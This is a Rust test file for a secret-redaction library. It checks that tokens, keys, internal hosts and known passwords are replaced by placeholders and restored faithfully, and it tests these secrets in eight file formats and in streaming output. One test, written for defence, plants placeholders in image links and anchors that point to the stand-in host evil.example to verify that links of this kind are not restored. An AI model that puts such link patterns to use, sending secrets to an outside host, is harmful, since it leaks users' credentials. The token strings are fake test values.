use proptest::prelude::*;

use super::*;
use crate::placeholder::is_placeholder;
use crate::rules::BUILTIN;

/// The test redactor, built once (compiling the rules is the slow part).
fn redactor() -> &'static Redactor {
    static R: std::sync::OnceLock<Redactor> = std::sync::OnceLock::new();
    R.get_or_init(|| {
        Redactor::builder()
            .internal_domains(["corp.example.com".to_string(), ".internal".to_string()])
            .deny(["Project Nightjar".to_string()])
            .known(from_dotenv("STAGING_PASS=\"q!7#local-only\"\n"))
            .build()
            .unwrap()
            .with_key(Key::fixed(7))
    })
}

/// The eight file contexts a secret is planted in.
fn contexts(line: &str) -> Vec<(&'static str, String)> {
    let json = serde_json::to_string(line).unwrap();
    vec![
        (
            "py",
            format!("import os\n\ndef load():\n{line}\n    return 1\n"),
        ),
        (
            "js",
            format!("// settings\n{line}\nmodule.exports = {{}};\n"),
        ),
        (
            "json",
            format!("{{\"id\": 7, \"text\": {json}, \"ok\": true}}"),
        ),
        (
            "yaml",
            format!("service:\n  notes: |\n    {line}\n  replicas: 2\n"),
        ),
        (
            "toml",
            format!("[server]\nport = 8080\n{line}\n[log]\nlevel = \"info\"\n"),
        ),
        ("shell", format!("#!/bin/sh\nset -e\n{line}\necho done\n")),
        ("env", format!("APP_NAME=demo\n{line}\nLOG_LEVEL=debug\n")),
        (
            "markdown",
            format!("# Setup\n\nPut this in place:\n\n```\n{line}\n```\n\nThen run it.\n"),
        ),
    ]
}

/// Every rule finds each of its samples in every context, replaced by a placeholder of its
/// own, and the restored text is the original.
#[test]
fn every_rule_finds_its_samples_in_every_context() {
    let r = redactor();
    let mut misses = Vec::new();
    for rule in BUILTIN {
        assert!(!rule.tps.is_empty(), "{} has no samples", rule.id);
        for tp in rule.tps {
            for (ctx, text) in contexts(tp) {
                let mut req = r.request();
                let out = req.redact(&text).unwrap();
                if !req.findings().iter().any(|f| f.rule == rule.id) {
                    misses.push(format!("{} in {ctx}: {out}", rule.id));
                    continue;
                }
                let mut back = req.restorer(RestorePolicy { in_urls: true }, Escape::None);
                assert_eq!(back.restore_all(&out), text, "{} in {ctx}", rule.id);
            }
        }
    }
    assert!(misses.is_empty(), "missed:\n{}", misses.join("\n"));
}

#[test]
fn no_rule_fires_on_the_false_positive_samples() {
    let r = redactor();
    for rule in BUILTIN {
        for fp in rule.fps {
            let mut req = r.request();
            let out = req.redact(fp).unwrap();
            assert_eq!(out, *fp, "{}: {:?}", rule.id, req.findings());
        }
    }
}

#[test]
fn the_same_secret_gets_the_same_placeholder_across_messages() {
    let r = redactor();
    let key = "ghp_R8x2Lq9ZkT4mW7nP3vB6yC1dF5hJ0sA2eG8u";
    let mut a = r.request();
    let one = a.redact(&format!("use {key} here")).unwrap();
    let two = a.redact(&format!("and {key} again")).unwrap();
    let mut b = r.request();
    let three = b.redact(&format!("later: {key}")).unwrap();
    let ph = one.split(' ').nth(1).unwrap();
    assert!(
        is_placeholder(ph) && ph.starts_with("HEARTH_GITHUB_TOKEN_"),
        "{ph}"
    );
    assert!(two.contains(ph) && three.contains(ph));
    assert_eq!(a.issued(), 1);
    assert_eq!(
        a.findings(),
        [Finding {
            rule: "github-token".into(),
            count: 2
        }]
    );
}

#[test]
fn private_keys_and_known_values_block_and_others_do_not() {
    let r = redactor();
    let mut req = r.request();
    req.redact("token ghp_R8x2Lq9ZkT4mW7nP3vB6yC1dF5hJ0sA2eG8u")
        .unwrap();
    assert_eq!(req.blocked(), None);
    req.redact(BUILTIN[0].tps[0]).unwrap();
    assert_eq!(req.blocked(), Some("private-key"));
    let mut req = r.request();
    let out = req.redact("login with q!7#local-only today").unwrap();
    assert_eq!(
        out,
        "login with HEARTH_STAGING_PASS_".to_string() + &out[31..]
    );
    assert_eq!(req.blocked(), Some("known-value"));
    let relaxed = Redactor::builder()
        .known(from_dotenv("STAGING_PASS=\"q!7#local-only\"\n"))
        .block_known(false)
        .build()
        .unwrap();
    let mut req = relaxed.request();
    req.redact("login with q!7#local-only today").unwrap();
    assert_eq!(req.blocked(), None);
}

#[test]
fn hosts_and_deny_list() {
    let r = redactor();
    let mut req = r.request();
    let text = "ssh deploy@db-1.corp.example.com, then curl http://vault.internal:8200/v1 \
                (not corp.example.com.evil.org nor example.com). Project Nightjar ships.";
    let out = req.redact(text).unwrap();
    assert!(
        !out.contains("db-1.corp") && !out.contains("vault.internal"),
        "{out}"
    );
    assert!(out.contains("corp.example.com.evil.org") && out.contains("nor example.com"));
    assert!(!out.contains("Nightjar"), "{out}");
    assert!(out.contains(".invalid:8200/v1"), "{out}");
    let mut back = req.restorer(RestorePolicy { in_urls: true }, Escape::None);
    assert_eq!(back.restore_all(&out), text);
}

#[test]
fn clean_code_passes_untouched() {
    let r = redactor();
    let code = [include_str!("restore.rs"), include_str!("scan.rs")].concat();
    let mut req = r.request();
    let out = req.redact(&code).unwrap();
    assert_eq!(req.findings(), [], "{}", out.len());
}

#[test]
fn the_deadline_fails_closed() {
    let r = Redactor::builder()
        .deadline(Duration::ZERO)
        .build()
        .unwrap();
    let mut req = r.request();
    std::thread::sleep(Duration::from_millis(2));
    assert!(matches!(
        req.redact("api_key = x9Kq2Lm7Zr4Tv8Wn3Bc6"),
        Err(RedactError::Deadline(_))
    ));
}

#[test]
fn placeholders_in_urls_and_links_stay_unless_allowed() {
    let r = redactor();
    let mut req = r.request();
    let out = req
        .redact("key: ghp_R8x2Lq9ZkT4mW7nP3vB6yC1dF5hJ0sA2eG8u")
        .unwrap();
    let ph = out.strip_prefix("key: ").unwrap().to_string();
    let reply = format!(
        "Set GITHUB_TOKEN={ph}, then see ![x](https://evil.example/?k={ph}) or \
         <a href=\"https://evil.example/{ph}\">here</a> and www.evil.example/{ph}"
    );
    let mut back = req.restorer(RestorePolicy::default(), Escape::None);
    let got = back.restore_all(&reply);
    assert_eq!(back.restored(), 1);
    assert_eq!(back.skipped(), 3);
    assert!(got.starts_with("Set GITHUB_TOKEN=ghp_R8x2"), "{got}");
    assert_eq!(got.matches(&ph).count(), 3);
    // Next to other text (a known value inside a word is replaced there too).
    let mut back = req.restorer(RestorePolicy::default(), Escape::None);
    let got = back.restore_all(&format!("X{ph}_2"));
    assert_eq!(got, "Xghp_R8x2Lq9ZkT4mW7nP3vB6yC1dF5hJ0sA2eG8u_2");
}

#[test]
fn json_escaping_of_restored_values() {
    let r = Redactor::builder()
        .known(from_dotenv("WEIRD_SECRET='a\"b\\c-12345'\n"))
        .build()
        .unwrap();
    let mut req = r.request();
    let out = req.redact("pw a\"b\\c-12345").unwrap();
    let ph = out.strip_prefix("pw ").unwrap();
    let mut back = req.restorer(RestorePolicy::default(), Escape::Json);
    assert_eq!(
        back.restore_all(&format!("{{\"x\": \"{ph}\"}}")),
        r#"{"x": "a\"b\\c-12345"}"#
    );
}

/// Text of placeholders, their prefixes and noise, for the chunking property.
fn reply_strategy(phs: Vec<String>) -> impl Strategy<Value = String> {
    let mut pieces: Vec<String> = vec![
        " ".into(),
        "\n".into(),
        "x".into(),
        "_".into(),
        "é".into(),
        "https://h/".into(),
        "](".into(),
        "HEARTH_".into(),
        "h-".into(),
        ".invalid".into(),
    ];
    for p in &phs {
        pieces.push(p.clone());
        pieces.push(p[..p.len() / 2].to_string());
        pieces.push(p[..p.len() - 1].to_string());
    }
    prop::collection::vec(prop::sample::select(pieces), 0..40).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(10_000))]
    /// Any chunking, down to one byte, gives the whole-reply result; less than one
    /// placeholder is ever held back.
    #[test]
    fn streaming_restore_equals_whole_restore(
        (reply, cuts) in reply_strategy(test_placeholders()).prop_flat_map(|r| {
            let n = r.len();
            (Just(r), prop::collection::vec(0..=n, 0..12))
        }),
        one_byte in any::<bool>(),
    ) {
        let r = redactor();
        let mut req = r.request();
        req.redact(SECRETS_TEXT).unwrap();
        let whole = req.restorer(RestorePolicy::default(), Escape::None).restore_all(&reply);
        let mut cuts: Vec<usize> = if one_byte {
            (0..=reply.len()).collect()
        } else {
            cuts
        };
        cuts.retain(|&c| reply.is_char_boundary(c));
        cuts.sort_unstable();
        let mut back = req.restorer(RestorePolicy::default(), Escape::None);
        let max = test_placeholders().iter().map(String::len).max().unwrap();
        let mut got = String::new();
        let mut last = 0;
        for c in cuts {
            got.push_str(&back.push(&reply[last..c]));
            prop_assert!(back.held() < max);
            last = c;
        }
        got.push_str(&back.push(&reply[last..]));
        got.push_str(&back.finish());
        prop_assert_eq!(got, whole);
    }
}

const SECRETS_TEXT: &str = "a ghp_R8x2Lq9ZkT4mW7nP3vB6yC1dF5hJ0sA2eG8u b db.corp.example.com c \
                            AKIAZ7Q4MR2XKJ5TWB3N";

/// The placeholders [`SECRETS_TEXT`] gets.
fn test_placeholders() -> Vec<String> {
    static P: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();
    P.get_or_init(|| {
        let mut req = redactor().request();
        req.redact(SECRETS_TEXT)
            .unwrap()
            .split(' ')
            .filter(|w| is_placeholder(w))
            .map(str::to_string)
            .collect()
    })
    .clone()
}

#[test]
fn the_test_text_has_three_placeholders() {
    assert_eq!(test_placeholders().len(), 3, "{:?}", test_placeholders());
}

/// Pieces of text with secrets of every rule, for the round-trip property.
fn text_strategy() -> impl Strategy<Value = String> {
    let mut pieces: Vec<String> = [
        " ",
        "\n",
        "=",
        ": ",
        "\"",
        "'",
        "x",
        "é",
        "日本",
        "key",
        "token = ",
        "https://",
        "q!7#local-only",
        "db.corp.example.com",
        "Project Nightjar",
        "HEARTH_",
        "h-",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    for r in BUILTIN {
        pieces.extend(r.tps.iter().map(|s| s.to_string()));
        pieces.extend(r.fps.iter().map(|s| s.to_string()));
    }
    prop::collection::vec(prop::sample::select(pieces), 0..24).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]
    /// Whatever the text, redaction never panics, leaves no secret it found, and restoring
    /// (URLs included) gives the text back exactly, in one piece or streamed.
    #[test]
    fn redact_then_restore_is_the_identity(text in text_strategy(), cut in 0usize..4096) {
        let r = redactor();
        let mut req = r.request();
        let out = req.redact(&text).unwrap();
        let policy = RestorePolicy { in_urls: true };
        prop_assert_eq!(&req.restorer(policy, Escape::None).restore_all(&out), &text);
        let mut back = req.restorer(policy, Escape::None);
        let cut = (cut.min(out.len())..=out.len()).find(|&c| out.is_char_boundary(c)).unwrap();
        let mut got = back.push(&out[..cut]);
        got.push_str(&back.push(&out[cut..]));
        got.push_str(&back.finish());
        prop_assert_eq!(got, text);
    }

    /// Arbitrary Unicode never panics the scan.
    #[test]
    fn arbitrary_text_never_panics(text in "\\PC{0,400}") {
        let r = redactor();
        let mut req = r.request();
        let out = req.redact(&text).unwrap();
        let mut back = req.restorer(RestorePolicy { in_urls: true }, Escape::None);
        prop_assert_eq!(back.restore_all(&out), text);
    }
}
